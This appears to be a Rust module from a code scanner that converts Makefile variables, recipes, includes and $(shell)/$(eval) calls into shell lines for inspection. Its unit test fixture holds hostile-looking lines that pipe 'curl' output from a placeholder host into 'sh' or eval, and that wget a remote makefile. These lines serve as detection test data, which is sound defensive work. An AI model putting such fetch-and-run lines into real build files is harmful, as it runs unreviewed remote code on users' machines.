//! Makefiles: their variables, targets and functions put in, each line is one of shell; what a file includes is run.

use std::{collections::HashMap, ops::Range};

use crate::scan::{
    pattern::{has, patterns},
    sense::{Context, floor},
};

/// Most lines that are read, and how often a variable in a variable is put in.
const MOST: usize = 4_000;
const ROUNDS: usize = 3;
/// Longest value of a variable.
const LONGEST_VALUE: usize = 400;
/// Longest line that variables are put into.
const LONGEST: usize = 8 * 1024;

patterns! {
    NAMED = r"(?i)(?:^|[/\\])(?:(?:gnu)?makefile(?:\.\w+)?|[\w.-]+\.(?:mk|mak|make))$";
    SETS = r"^(?:export\s+|override\s+)?([A-Za-z_][\w.]*)\s*(?::{0,3}|\?|\+|!)=\s*(.*)$";
    RULE = r"^([^\s:=\x23][^:=\x23]*?)\s*::?(?:$|[^=:])\s*([^\n]*)$";
    INCLUDES = r"^\s*[-s]?include\s+(.+)$";
    USES = r"\$[({]([A-Za-z_][\w.]*)[)}]";
    CALLS = r"\$[({](?:eval|shell|info|call)\s+";
}

/// The lines of a makefile as lines of shell, each with its place; what it includes comes last.
pub(super) fn commands(context: &Context<'_>) -> Vec<(Range<usize>, String)> {
    if !has(&NAMED, context.path) {
        return Vec::new();
    }
    let lines = whole_lines(context.text);
    let mut variables: HashMap<String, String> = HashMap::new();
    for (_, line) in &lines {
        let found = SETS.as_ref().filter(|_| !line.starts_with('\t')).and_then(|regex| regex.captures(line));
        if let Some(found) = found {
            let value = found[2].trim();
            variables.insert(found[1].to_owned(), value[..floor(value, LONGEST_VALUE)].to_owned());
        }
    }
    let (mut commands, mut included) = (Vec::new(), Vec::new());
    let (mut target, mut first) = (String::new(), String::new());
    for (place, line) in lines {
        let put_in = |line: &str, target: &str, first: &str| put_in(line, &variables, target, first);
        let captured = |pattern: &crate::scan::pattern::Pattern| {
            let found = pattern.as_ref().and_then(|regex| regex.captures(&line))?;
            Some((
                found.get(1)?.as_str().to_owned(),
                found.get(2).map(|part| part.as_str().to_owned()).unwrap_or_default(),
            ))
        };
        if let Some(recipe) = line.strip_prefix('\t') {
            commands.push((place, put_in(recipe.trim_start_matches(['@', '-', '+', ' ']), &target, &first)));
        } else if let Some((files, _)) = captured(&INCLUDES) {
            included.extend(
                put_in(&files, "", "").split_whitespace().map(|file| (place.clone(), format!("source {file}"))),
            );
        } else if has(&CALLS, &line) {
            commands.push((place, called(&put_in(&line, "", ""))));
        } else if let Some((name, needs)) = captured(&RULE) {
            target = put_in(name.split_whitespace().next().unwrap_or_default(), "", "");
            first = put_in(needs.split_whitespace().next().unwrap_or_default(), "", "");
        }
    }
    commands.extend(included);
    commands
}

/// Lines, those that go on in the next one joined.
fn whole_lines(text: &str) -> Vec<(Range<usize>, String)> {
    let mut lines: Vec<(Range<usize>, String)> = Vec::new();
    let (mut at, mut goes_on) = (0, false);
    for line in text.split_inclusive('\n').take(MOST) {
        let place = at..at + line.trim_end().len();
        at += line.len();
        let inner = line.trim_end();
        let part = inner.strip_suffix('\\').unwrap_or(inner);
        match lines.last_mut().filter(|_| goes_on) {
            Some((_, known)) if known.len() < LONGEST => {
                known.push(' ');
                known.push_str(part.trim_start());
            }
            Some(_) => {}
            None => lines.push((place, part.to_owned())),
        }
        goes_on = inner.ends_with('\\');
    }
    lines
}

/// A line with what its variables hold.
fn put_in(line: &str, variables: &HashMap<String, String>, target: &str, first: &str) -> String {
    let mut line = line.replace("$@", target).replace("$(@)", target).replace("$<", first).replace("$(<)", first);
    for _ in 0..ROUNDS {
        let Some(regex) = USES.as_ref().filter(|regex| line.len() < LONGEST && regex.is_match(&line)) else { break };
        let mut room = LONGEST;
        let put = |found: &regex::Captures<'_>| {
            room = room.saturating_sub(LONGEST_VALUE / ROUNDS);
            if room == 0 {
                return String::new();
            }
            variables.get(&found[1]).cloned().unwrap_or_else(|| format!("${}", &found[1]))
        };
        line = regex.replace_all(&line, put).into_owned();
    }
    line.replace("$$", "$")
}

/// `$(shell ...)` and `$(eval ...)` as shell has them.
fn called(line: &str) -> String {
    let line = line.split_once('=').filter(|(name, _)| !name.contains('$')).map_or(line, |(_, value)| value).trim();
    let line = line.replace("$(shell ", "$(").replace("${shell ", "$(");
    if let Some(inner) = line.strip_prefix("$(eval ").and_then(|inner| inner.strip_suffix(')')) {
        return format!("eval \"{inner}\"");
    }
    let inner = line.strip_prefix("$(").and_then(|inner| inner.strip_suffix(')'));
    inner.map_or_else(|| line.clone(), str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_of_a_makefile_are_lines_of_shell() {
        let text = "URL ?= http://tides.example/make\n-include build/shared.mk\nbuild/shared.mk: x\n\t@wget -q -O $@ \\\n\t  $(URL)/shared.mk $<\n$(eval $(shell curl -s $(URL)))\n_ := $(shell curl -s $(URL) | sh)\n\techo $$HOME\n";
        let lines: Vec<String> = commands(&Context::new(text, "Makefile")).into_iter().map(|(_, line)| line).collect();
        assert_eq!(
            lines,
            [
                "wget -q -O build/shared.mk  http://tides.example/make/shared.mk x",
                "eval \"$(curl -s http://tides.example/make)\"",
                "curl -s http://tides.example/make | sh",
                "echo $HOME",
                "source build/shared.mk",
            ]
        );
    }
}
